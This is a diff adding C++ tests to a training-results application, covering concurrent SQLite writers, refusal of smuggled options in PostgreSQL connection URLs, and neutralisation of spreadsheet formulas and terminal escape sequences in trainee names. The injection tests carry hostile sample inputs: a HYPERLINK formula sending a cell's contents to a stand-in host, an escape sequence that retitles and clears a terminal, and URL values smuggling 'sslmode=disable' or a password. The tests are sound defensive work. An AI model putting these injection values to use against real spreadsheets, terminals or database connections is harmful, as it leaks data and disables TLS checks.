@@ -9,6 +9,7 @@
 #include "results/ResultSync.h"
 #include "results/ResultUploader.h"
 #include "results/ResultsDatabase.h"
+#include "results/ServerConnectOptions.h"
 #include "tests/widgets/ResultsServer.h"
 
 #include <QCoreApplication>
@@ -119,6 +120,53 @@ TEST_P(Backends, CopyingResultsTwiceKeepsOneOfEach) {
 INSTANTIATE_TEST_SUITE_P(SqliteAndPostgresql, Backends, ::testing::Values(false, true),
                          [](const auto& info) { return info.param ? "Postgresql" : "Sqlite"; });
 
+// Twenty writers at once into one workstation's store (the window's uploader, CLI runs, another
+// window): each waits its turn for the write lock, and nothing is lost to "database is locked".
+TEST(SqliteStore, TwentyWritersAtOnceLoseNothing) {
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("shared.sqlite"));
+    {
+        ResultsDatabase db;
+        QString error;
+        ASSERT_TRUE(db.open(path, &error)) << error.toStdString();  // made once, as the first run does
+    }
+    constexpr int kWriters = 20, kEach = 5;
+    std::atomic<int> stored{0};
+    std::vector<std::string> failures(kWriters);
+    std::vector<std::thread> writers;
+    for (int w = 0; w < kWriters; ++w)
+        writers.emplace_back([&, w] {
+            ResultsDatabase db;
+            QString error;
+            if (!db.open(path, &error)) {
+                failures[std::size_t(w)] = error.toStdString();
+                return;
+            }
+            const qint64 trainee = db.addTrainee(QStringLiteral("T%1").arg(w % 4), &error);
+            if (trainee < 0) {
+                failures[std::size_t(w)] = error.toStdString();
+                return;
+            }
+            for (int i = 0; i < kEach; ++i) {
+                if (db.addResult(trainee, report(50.0 + i), QStringLiteral("Press two targets"),
+                                 QStringLiteral("/e.json"), QDateTime::currentDateTimeUtc(), 10.0, QString(),
+                                 &error) < 0) {
+                    failures[std::size_t(w)] = error.toStdString();
+                    return;
+                }
+                ++stored;
+            }
+        });
+    for (std::thread& t : writers) t.join();
+    for (int w = 0; w < kWriters; ++w) EXPECT_EQ(failures[std::size_t(w)], "") << "writer " << w;
+    EXPECT_EQ(stored.load(), kWriters * kEach);
+    ResultsDatabase db;
+    QString error;
+    ASSERT_TRUE(db.open(path, &error)) << error.toStdString();
+    EXPECT_EQ(db.allResults().size(), std::size_t(kWriters * kEach));
+    EXPECT_EQ(db.trainees().size(), 4u);
+}
+
 TEST(PostgresqlStore, APasswordInTheUrlIsRefusedAndAnAbsentServerNamed) {
     ResultsDatabase db;
     QString error;
@@ -129,6 +177,46 @@ TEST(PostgresqlStore, APasswordInTheUrlIsRefusedAndAnAbsentServerNamed) {
     EXPECT_TRUE(error.contains(QStringLiteral("cannot connect"))) << error.toStdString();
     EXPECT_FALSE(db.open(QStringLiteral("postgresql://localhost"), &error));
     EXPECT_TRUE(error.contains(QStringLiteral("database"))) << error.toStdString();
+}
+
+// A URL's options reach libpq as quoted values of known keywords: nothing in a value adds an option
+// (a smuggled password or user, or a later sslmode that turns TLS checking off), a password is
+// refused in any form and never repeated, and connect_timeout cannot be 0 (for ever).
+TEST(PostgresqlStore, UrlOptionsCannotSmuggleAPasswordAUserOrAnotherSslmode) {
+    const auto options = [](const char* url, QString& error) {
+        return serverConnectOptions(QUrl(QString::fromUtf8(url)), error);
+    };
+    QString error;
+    EXPECT_EQ(options("postgresql://ws@host/class", error), QStringLiteral("sslmode='prefer';connect_timeout='5'"));
+    EXPECT_EQ(error, QString());
+    EXPECT_EQ(options("postgresql://ws@host/class?sslmode=verify-full&sslrootcert=/etc/ca%20root.crt", error),
+              QStringLiteral("sslmode='verify-full';sslrootcert='/etc/ca root.crt';connect_timeout='5'"));
+    // A space in a value stays inside its quotes: one option, whatever follows the space.
+    EXPECT_EQ(options("postgresql://ws@host/class?sslmode=verify-full&application_name=x%20sslmode%3Ddisable", error),
+              QStringLiteral("sslmode='verify-full';application_name='x sslmode=disable';connect_timeout='5'"));
+    EXPECT_EQ(options("postgresql://ws@host/class?application_name=it%27s%5C", error),
+              QStringLiteral("application_name='it\\'s\\\\';sslmode='prefer';connect_timeout='5'"));
+    for (const char* url :
+         {"postgresql://room12@host/palpate?password=room12pw", "postgresql://room12@host/palpate?PassWord=room12pw",
+          "postgresql://room12@host/palpate?sslmode=prefer%20password%3Droom12pw"}) {
+        EXPECT_EQ(options(url, error), QString()) << url;
+        EXPECT_TRUE(error.contains(QStringLiteral("password"))) << url << ": " << error.toStdString();
+        EXPECT_FALSE(error.contains(QStringLiteral("room12pw"))) << url << ": " << error.toStdString();
+        ResultsDatabase db;
+        QString openError;
+        EXPECT_FALSE(db.open(QString::fromUtf8(url), &openError));
+        EXPECT_FALSE(openError.contains(QStringLiteral("room12pw"))) << openError.toStdString();
+        EXPECT_TRUE(openError.contains(QStringLiteral("password"))) << openError.toStdString();
+    }
+    for (const char* key : {"user", "host", "dbname", "port", "service", "options", "hostaddr"}) {
+        const std::string url = std::string("postgresql://ws@host/class?") + key + "=owner";
+        EXPECT_EQ(options(url.c_str(), error), QString()) << key;
+        EXPECT_TRUE(error.contains(QStringLiteral("'%1'").arg(QLatin1String(key)))) << error.toStdString();
+    }
+    EXPECT_EQ(options("postgresql://ws@host/class?connect_timeout=0", error), QString());
+    EXPECT_TRUE(error.contains(QStringLiteral("connect_timeout"))) << error.toStdString();
+    EXPECT_EQ(options("postgresql://ws@host/class?connect_timeout=12", error),
+              QStringLiteral("connect_timeout='12';sslmode='prefer'"));
 }
 
 // Eight workstations send at once, each with its own connection: every result arrives once.
@@ -333,6 +421,61 @@ std::pair<int, QByteArray> cli(const QStringList& arguments) {
     p.start(QStringLiteral(PALPATE_CLI_PATH), arguments);
     p.waitForFinished(120000);
     return {p.exitCode(), p.readAllStandardOutput()};
+}
+
+// A trainee's name is data wherever it goes: a spreadsheet formula stays text in every CSV (the
+// export and the class's), and an escape sequence is shown on the terminal, not obeyed.
+TEST(ResultsCli, NamesThatLookLikeFormulasOrTerminalCommandsStayText) {
+    QTemporaryDir dir;
+    const QString formula = QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
+    const QString escape = QStringLiteral("Eve\x1b]0;pwned\x07\x1b[2J");
+    const QString path = workstation(dir, QStringLiteral("ws"), formula, 1);
+    {
+        ResultsDatabase db;
+        QString error;
+        ASSERT_TRUE(db.open(path, &error)) << error.toStdString();
+        const qint64 eve = db.addTrainee(escape, &error);
+        ASSERT_GE(db.addResult(eve, report(70.0), QStringLiteral("@SUM(1+1)"), QStringLiteral("/e.json"),
+                               QDateTime::currentDateTimeUtc(), 10.0, QString(), &error),
+                  0)
+            << error.toStdString();
+    }
+    const QString csv = dir.filePath(QStringLiteral("out.csv")), classCsv = dir.filePath(QStringLiteral("class.csv"));
+    ASSERT_EQ(cli({QStringLiteral("results"), QStringLiteral("export"), QStringLiteral("--db"), path,
+                   QStringLiteral("--csv"), csv})
+                  .first,
+              0);
+    ASSERT_EQ(cli({QStringLiteral("results"), QStringLiteral("class"), QStringLiteral("--db"), path,
+                   QStringLiteral("--csv"), classCsv})
+                  .first,
+              0);
+    for (const QString& file : {csv, classCsv}) {
+        QFile f(file);
+        ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+        const QStringList lines = QString::fromUtf8(f.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+        ASSERT_GE(lines.size(), 2) << file.toStdString();
+        bool sawName = false;
+        for (const QString& line : lines.mid(1)) {
+            // No cell begins with a formula character: each is quoted with an apostrophe first.
+            for (const QString& cell : line.split(QLatin1Char(',')))
+                EXPECT_FALSE(cell.startsWith(QLatin1Char('=')) || cell.startsWith(QLatin1Char('@')) ||
+                             cell.startsWith(QLatin1Char('+')))
+                    << file.toStdString() << ": " << line.toStdString();
+            sawName |= line.contains(QStringLiteral("\"'=HYPERLINK("));
+        }
+        EXPECT_TRUE(sawName) << file.toStdString();
+    }
+    const auto [listCode,
+                listOut] = cli({QStringLiteral("results"), QStringLiteral("list"), QStringLiteral("--db"), path});
+    ASSERT_EQ(listCode, 0);
+    EXPECT_FALSE(listOut.contains('\x1b')) << listOut.toStdString();
+    EXPECT_FALSE(listOut.contains('\x07')) << listOut.toStdString();
+    EXPECT_TRUE(listOut.contains("Eve\\x1B]0;pwned\\x07")) << listOut.toStdString();
+    const auto [traineeCode,
+                traineeOut] = cli({QStringLiteral("trainee"), QStringLiteral("list"), QStringLiteral("--db"), path});
+    ASSERT_EQ(traineeCode, 0);
+    EXPECT_FALSE(traineeOut.contains('\x1b')) << traineeOut.toStdString();
+    EXPECT_TRUE(traineeOut.contains("Eve\\x1B")) << traineeOut.toStdString();
 }
 
 TEST(ResultsCli, ListExportAndSyncAsUsersRunThem) {
